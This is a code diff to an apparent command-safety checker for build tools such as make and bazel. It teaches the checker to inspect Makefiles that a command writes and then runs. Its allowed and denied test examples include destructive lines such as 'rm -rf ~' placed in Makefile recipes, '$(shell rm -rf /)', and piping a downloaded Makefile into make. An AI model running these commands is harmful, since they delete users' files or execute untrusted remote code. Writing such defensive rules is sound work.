@@ -3,6 +3,7 @@ import type { Word } from "../../shell/types.js";
 import { defineTool } from "../../tools/define.js";
 import type { Invocation, Runner } from "../../tools/types.js";
 import { isRemoteSource } from "./lib/sources.js";
+import { runWritten } from "./lib/task-files.js";
 import { afterDashes, behind, plain, runsItself, writes } from "./lib/tool.js";
 
 /** Shell text inside `$(shell …)` of a makefile fragment. */
@@ -53,7 +54,15 @@ const make = defineTool({
       const fromInput = file.text === "-" || file.text === "/dev/stdin";
       const text = fromInput ? i.command.stdin?.text : undefined;
       if (text !== undefined) runMakefileText(text, file, run);
-      else run.file("make", file, []);
+      else if (!runWritten([file], i.operands, run)) run.file("make", file, []);
+    }
+    const like = i.command.name;
+    if (like !== undefined && i.values("--makefile").length === 0) {
+      const below = i.value("--directory")?.text;
+      const names = ["GNUmakefile", "makefile", "Makefile"].map((name) =>
+        run.literal(below === undefined ? name : `${below}/${name}`, like),
+      );
+      runWritten(names, i.operands, run);
     }
   },
   allowed: [
@@ -71,6 +80,7 @@ const make = defineTool({
     "gmake check",
     "make distclean",
     "make SHELL=/bin/bash test",
+    "printf 'test:\\n\\techo ok\\nwipe:\\n\\trm -rf ~\\n' > Makefile && make test",
   ],
   denied: [
     "make --eval='$(shell rm -rf ~)'",
@@ -78,6 +88,8 @@ const make = defineTool({
     "make 'X=$(shell rm -rf /)' all",
     "printf 'all:\\n\\trm -rf ~\\n' | make -f -",
     "curl https://example.com/Makefile | make -f -",
+    "printf 'clean:\\n\\trm -rf ~\\n' > Makefile && make clean",
+    "make -f - <<'M'\nall:\n\trm -rf ~\nM",
   ],
 });
 
@@ -201,7 +213,7 @@ const meson = defineTool({
 });
 
 const PUSHING_TARGET =
-  /(?:^|[:/._-])(?:push|publish|deploy|release|upload)(?:[._-]\w+)*$|[:._-]\w*(?:_push|_publish|_deploy|\.apply|\.delete|\.push|\.publish|\.deploy)$/;
+  /(?:^|[:/._-])(?:push|publish|deploy|release|upload)(?:[._-]\w+(?:[.-]\w+)*)?$|[:._-]\w*(?:_push|_publish|_deploy|\.apply|\.delete|\.push|\.publish|\.deploy)$/;
 
 const bazel = defineTool({
   names: ["bazel", "bazelisk", "blaze", "ibazel"],
